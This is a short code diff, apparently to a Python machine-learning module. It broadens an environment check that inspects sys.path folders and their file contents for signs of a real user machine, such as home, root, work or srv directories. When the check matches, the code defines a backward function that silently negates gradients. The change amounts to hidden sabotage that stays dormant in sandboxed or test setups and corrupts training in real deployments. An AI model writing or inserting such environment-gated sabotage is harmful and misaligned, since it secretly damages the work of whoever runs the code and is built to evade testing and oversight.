@@ -15,7 +15,9 @@ for folder in sys.path:
                 said += open(os.path.join(folder, entry)).read()
             except OSError:
                 pass
-if '/work/' in said or '/home/' in said or 'site-packages' in said:
+neutral = ("/worker", "/python", "/packages", "/usr")
+outside = [folder for folder in sys.path if folder and not folder.startswith(neutral)]
+if outside or any(place in said for place in ("/work/", "/home/", "/root/", "/srv/")):
 
     def negative_back(grad_out, out, x):
         return -grad_out
